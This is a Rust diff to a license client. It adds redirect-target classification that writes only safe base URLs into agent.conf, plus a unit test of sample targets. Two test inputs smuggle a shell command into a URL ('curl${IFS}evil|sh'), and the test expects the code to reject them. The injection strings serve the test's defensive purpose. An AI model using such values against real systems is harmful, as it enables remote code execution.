@@ -4,17 +4,18 @@ use std::io::{self, ErrorKind};
 use std::time::Duration;
 
 use rustls::Error as TlsError;
+use serde_json::Value;
 use ureq::http::HeaderMap;
 
 use crate::license::client::fault::{Fault, Step, seconds, words};
 use crate::license::client::http::{self, MAX_HEAD, Progress};
 use crate::license::client::route::Opened;
 use crate::license::client::tls_fault::{self, Peer};
-use crate::license::client::url::ServerUrl;
+use crate::license::client::url::{ServerUrl, VERIFICATION_PATH};
 use opterius_base::clock::Timestamp;
 use opterius_base::text::one_line;
 use opterius_http::response::parse_date;
-use opterius_license::outcome::{Answer, MAX_BODY};
+use opterius_license::outcome::{Answer, Destination, MAX_BODY};
 use opterius_license::signature;
 
 /// Sends `body` to the verification endpoint over an open connection, and returns the answer. `limit` is the time limit
@@ -42,14 +43,16 @@ pub fn ask(server: &ServerUrl, opened: Opened, body: &[u8], limit: Duration) -> 
         })?,
     };
     let status = response.status().as_u16();
-    // The body of another status says nothing anyway.
-    if let Some(coding) = coding(response.headers()).filter(|_| matches!(status, 200..=299 | 400..=428)) {
+    // Some servers name a character set in `Content-Encoding`, so the body decides; that of another status says nothing.
+    if let Some(coding) = coding(response.headers()).filter(|_| matches!(status, 200..=299 | 400..=428))
+        && serde_json::from_slice::<Value>(&body).is_err()
+    {
         return Err(encoded(server, &coding));
     }
-    Ok(answer(status, response.headers(), body))
+    Ok(answer(server, status, response.headers(), body))
 }
 
-fn answer(status: u16, headers: &HeaderMap, body: Vec<u8>) -> Answer {
+fn answer(server: &ServerUrl, status: u16, headers: &HeaderMap, body: Vec<u8>) -> Answer {
     let text = |name: &str| headers.get(name).and_then(|value| value.to_str().ok());
     let date = text("date").and_then(parse_date);
     let retry_after = text("retry-after").and_then(|value| retry_after(value, date));
@@ -61,8 +64,26 @@ fn answer(status: u16, headers: &HeaderMap, body: Vec<u8>) -> Answer {
         retry_after,
         signature: signatures.collect::<Vec<_>>().join(", "),
         location: kept("location"),
+        destination: text("location").map_or(Destination::Elsewhere, |target| destination(server, target.trim())),
         content_type: kept("content-type"),
         body,
+    }
+}
+
+/// What `license_server` would have to be for the target of a redirect.
+fn destination(server: &ServerUrl, target: &str) -> Destination {
+    let path = target.starts_with('/') && !target.starts_with("//");
+    let absolute = if path { format!("{}{target}", server.origin()) } else { target.to_owned() };
+    let end = absolute.find(['?', '#']).unwrap_or(absolute.len());
+    let base = absolute.get(..end).and_then(|url| url.trim_end_matches('/').strip_suffix(VERIFICATION_PATH));
+    // It goes into agent.conf, perhaps through a shell.
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~:/[]".contains(&byte);
+    match base.map(ServerUrl::parse) {
+        Some(Ok(url)) if url.base().eq_ignore_ascii_case(server.base()) => Destination::Here,
+        Some(Ok(url)) if !url.is_plain() && url.base().bytes().all(is_plain) => {
+            Destination::Base(url.base().to_owned())
+        }
+        _ => Destination::Elsewhere,
     }
 }
 
@@ -198,6 +219,38 @@ fn unreadable(server: &ServerUrl, progress: &Progress) -> Option<Fault> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_redirect_leads_to_a_base_url_that_agent_conf_accepts() {
+        let server = ServerUrl::parse("https://old.example.com:8443/base").unwrap();
+        let moved = |base: &str| Destination::Base(base.to_owned());
+        let verify = VERIFICATION_PATH;
+        for (target, expected) in [
+            (format!("https://new.example.com{verify}"), moved("https://new.example.com")),
+            (format!("HTTPS://new.example.com:9443/b{verify}/?from=old#x"), moved("HTTPS://new.example.com:9443/b")),
+            (format!("https://[2001:db8::1]{verify}"), moved("https://[2001:db8::1]")),
+            (format!("/new{verify}"), moved("https://old.example.com:8443/new")),
+            (verify.to_owned(), moved("https://old.example.com:8443")),
+            (server.verification(), Destination::Here),
+            (
+                format!("{}/?a=b", server.verification().to_uppercase().replace("/API/LICENSE/VERIFY", verify)),
+                Destination::Here,
+            ),
+            (format!("/base{verify}"), Destination::Here),
+            (format!("//new.example.com{verify}"), Destination::Elsewhere),
+            (format!("http://new.example.com{verify}"), Destination::Elsewhere),
+            (format!("http://127.0.0.1{verify}"), Destination::Elsewhere),
+            (format!("https://user:word@new.example.com{verify}"), Destination::Elsewhere),
+            (format!("https://a;curl${{IFS}}evil|sh{verify}"), Destination::Elsewhere),
+            (format!("https://a/;curl${{IFS}}evil|sh{verify}"), Destination::Elsewhere),
+            (format!("https://new.example.com/ a{verify}"), Destination::Elsewhere),
+            (format!("https://{verify}"), Destination::Elsewhere),
+            ("https://new.example.com/login".to_owned(), Destination::Elsewhere),
+            (String::new(), Destination::Elsewhere),
+        ] {
+            assert_eq!(destination(&server, &target), expected, "{target}");
+        }
+    }
 
     #[test]
     fn retry_after_is_seconds_or_a_date() {
